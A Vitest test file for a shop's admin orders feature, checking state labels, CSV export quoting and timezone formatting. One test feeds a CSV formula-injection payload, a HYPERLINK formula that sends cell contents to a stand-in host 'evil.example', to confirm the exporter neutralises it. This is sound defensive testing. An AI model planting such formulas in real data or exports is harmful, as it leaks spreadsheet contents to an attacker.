import { describe, expect, it } from 'vitest';
import type { AdminOrder } from '@shop/shared/schemas';
import { csvCell, ordersCsv } from '../../../src/features/admin-orders/components/orders-csv';
import { formatStudioDateTime } from '@shop/shared/domain/time';
import { adminOrderState, eventNoteWords } from '../../../src/lib/orders/order-status-text';

// How the studio reads an order's state: the shopper's stage words, so a held order is not "Paid",
// nor is a partly refunded one, nor a returned parcel "On its way".

describe("an order's state in the admin", () => {
  it('reads the stage a shopper reads: held or returned first, then a partial refund, then making', () => {
    expect(adminOrderState({ status: 'paid', fulfilmentStatus: 'held-address', refunded: 0 }).label).toBe('On hold');
    expect(adminOrderState({ status: 'paid', fulfilmentStatus: 'onhold', refunded: 0 }).label).toBe('On hold');
    expect(adminOrderState({ status: 'shipped', fulfilmentStatus: 'returned', refunded: 0 }).label).toBe('On hold');
    expect(adminOrderState({ status: 'paid', fulfilmentStatus: 'pending', refunded: 5 }).label).toBe(
      'Refunded in part',
    );
    expect(adminOrderState({ status: 'refunded', fulfilmentStatus: 'failed', refunded: 20 }).label).toBe('Refunded');
    expect(adminOrderState({ status: 'paid', fulfilmentStatus: 'pending', refunded: 0 }).label).toBe('Being made');
  });

  it('exports the list as CSV with states in words and text that needs quoting quoted', () => {
    const order = {
      id: 'ord_1',
      number: 'CS-10042',
      status: 'paid',
      createdAt: '2026-11-26T22:07:00.000Z',
      customerName: 'Ada "the Countess", Lovelace',
      customerEmail: 'ada@example.com',
      fulfilmentStatus: 'held-address',
      amounts: { subtotal: 50, shipping: 5, tax: 3.85, total: 58.85, currency: 'USD' },
      totalPrice: 58.85,
      refunded: 0,
      discountCode: null,
    } as unknown as AdminOrder;
    const lines = ordersCsv([order], () => 'Nov 26, 2026, 2:07 PM PST').split('\r\n');
    expect(lines[0]).toBe('number,placed,customer,email,state,production,total,refunded,discountCode');
    expect(lines[1]).toBe(
      'CS-10042,"Nov 26, 2026, 2:07 PM PST","Ada ""the Countess"", Lovelace",ada@example.com,On hold,On hold for the address,58.85,0.00,',
    );
  });

  it('writes a name that starts like a formula as text a spreadsheet does not run', () => {
    const order = {
      id: 'ord_2',
      number: 'CS-10043',
      status: 'paid',
      createdAt: '2026-11-26T22:07:00.000Z',
      customerName: '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
      customerEmail: '@evil.example',
      fulfilmentStatus: 'draft',
      amounts: null,
      totalPrice: 10,
      refunded: 0,
      discountCode: null,
    } as unknown as AdminOrder;
    const [, row] = ordersCsv([order], () => 'when').split('\r\n');
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Refund"")"`);
    expect(row).toContain(`,'@evil.example,`);
    for (const start of ['=', '+', '-', '@', '\t', '\r'])
      expect(csvCell(`${start}1+1`).replace(/^"/, '')).toMatch(/^'/);
    expect(csvCell('Ada')).toBe('Ada');
  });
});

describe("an order's history in the admin", () => {
  it("writes a time inside an event's note in the studio's time, never as a raw UTC stamp", () => {
    const note = eventNoteWords('Until 2026-11-29T02:48:03.939Z (studio@example.com)', 'America/Los_Angeles');
    expect(note).not.toMatch(/T02:48|Z\b/);
    expect(note).toBe(
      `Until ${formatStudioDateTime('2026-11-29T02:48:03.939Z', 'America/Los_Angeles')} (studio@example.com)`,
    );
    expect(note).toContain('6:48');
  });
});
